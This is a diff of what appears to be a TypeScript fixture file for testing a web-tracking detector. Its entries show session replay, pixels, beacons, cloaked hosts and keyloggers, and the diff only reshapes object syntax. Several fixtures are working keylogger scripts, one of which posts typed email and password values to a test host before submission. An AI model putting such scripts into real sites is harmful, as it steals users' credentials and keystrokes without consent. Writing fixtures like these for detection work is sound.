@@ -7,7 +7,8 @@ const dot = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA
 /** What watches people, and what is sent of it. */
 export const watching: Phenomenon[] = [
   {
-    ...{ host: 'recorder', what: 'a recorder that watches the whole document' },
+    host: 'recorder',
+    what: 'a recorder that watches the whole document',
     answers: (origin) => ({
       'recorder/': `<script src="${origin('replay')}/record.js"></script>`,
       'replay/record.js':
@@ -25,7 +26,8 @@ export const watching: Phenomenon[] = [
     trackers: ['sessionReplay'],
   },
   {
-    ...{ host: 'typing', what: 'what is typed is sent without being submitted' },
+    host: 'typing',
+    what: 'what is typed is sent without being submitted',
     answers: (origin) => ({
       'typing/': `<input id="mail" type="email"><input type="password" id="secret"><script>
         const send = (path) => ({ target }) => fetch('${origin('hop')}' + path, { method: 'POST', body: target.value });
@@ -40,7 +42,8 @@ export const watching: Phenomenon[] = [
     trackers: ['keyLogging'],
   },
   {
-    ...{ host: 'typing-hashed', what: 'what is typed is sent as its hash' },
+    host: 'typing-hashed',
+    what: 'what is typed is sent as its hash',
     answers: (origin) => ({
       'typing-hashed/': `<input id="mail"><script>mail.addEventListener('keyup', async () => {
         const bytes = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(mail.value.toLowerCase()));
@@ -53,7 +56,8 @@ export const watching: Phenomenon[] = [
     trackers: ['keyLogging'],
   },
   {
-    ...{ host: 'rrweb', what: 'a recorder that anybody can take: rrweb' },
+    host: 'rrweb',
+    what: 'a recorder that anybody can take: rrweb',
     answers: (origin) => ({
       'rrweb/': `<p>Read me</p><input><script src="${origin('recording')}/rrweb.js"></script><script>
         const held = []; rrweb.record({ emit: (event) => held.push(event) });
@@ -67,7 +71,8 @@ export const watching: Phenomenon[] = [
     trackers: ['keyLogging', 'sessionReplay'],
   },
   {
-    ...{ host: 'own-recorder', what: 'a recorder that the site runs itself' },
+    host: 'own-recorder',
+    what: 'a recorder that the site runs itself',
     answers: () => ({
       'own-recorder/': '<script src="/own-record.js"></script>',
       'own-recorder/own-record.js':
@@ -81,7 +86,8 @@ export const watching: Phenomenon[] = [
     trackers: ['sessionReplay'],
   },
   {
-    ...{ host: 'key-by-key', what: 'what is typed is sent key by key' },
+    host: 'key-by-key',
+    what: 'what is typed is sent key by key',
     answers: (origin) => ({
       'key-by-key/': `<input id="name"><script>addEventListener('keydown', ({ key }) =>
         fetch('${origin('keys')}/key?t=' + Date.now() + '&k=' + encodeURIComponent(key)))</script>`,
@@ -92,7 +98,8 @@ export const watching: Phenomenon[] = [
     trackers: ['keyLogging'],
   },
   {
-    ...{ host: 'key-list', what: 'the keys that were pressed are sent as a list' },
+    host: 'key-list',
+    what: 'the keys that were pressed are sent as a list',
     answers: (origin) => ({
       'key-list/': `<input id="name"><script>const keys = []; addEventListener('keydown', ({ key }) => keys.push({ key, at: 1 }));
         setInterval(() => keys.length && fetch('${origin('hop')}/key-list', { method: 'POST', body: JSON.stringify(keys) }), 200)</script>`,
@@ -105,7 +112,8 @@ export const watching: Phenomenon[] = [
     trackers: ['keyLogging'],
   },
   {
-    ...{ host: 'pixelled', what: 'a picture of one dot with a number for the visitor' },
+    host: 'pixelled',
+    what: 'a picture of one dot with a number for the visitor',
     answers: (origin) => ({
       'pixelled/': `<script>new Image().src = '${origin('dots')}/dot.gif?uid=' + crypto.randomUUID()</script>`,
       'dots/dot.gif': { body: dot, type: 'image/gif' },
@@ -114,7 +122,8 @@ export const watching: Phenomenon[] = [
     trackers: ['pixel'],
   },
   {
-    ...{ host: 'messaged', what: 'a message that waits for no answer' },
+    host: 'messaged',
+    what: 'a message that waits for no answer',
     answers: (origin) => ({
       'messaged/': `<script>navigator.sendBeacon('${origin('hop')}/beacon', 'visit')</script>`,
       'hop/beacon': 'x',
@@ -123,7 +132,8 @@ export const watching: Phenomenon[] = [
     trackers: ['beacon'],
   },
   {
-    ...{ host: 'cloaked', what: 'a host of the site that somebody else runs' },
+    host: 'cloaked',
+    what: 'a host of the site that somebody else runs',
     answers: (origin) => ({
       'cloaked/': `<img src="${origin('metrics.cloaked')}/i.svg"><img src="${origin('images.cloaked')}/i.svg">`,
       'metrics.cloaked/i.svg': image({ 'set-cookie': 'cloaked=1; Path=/' }),
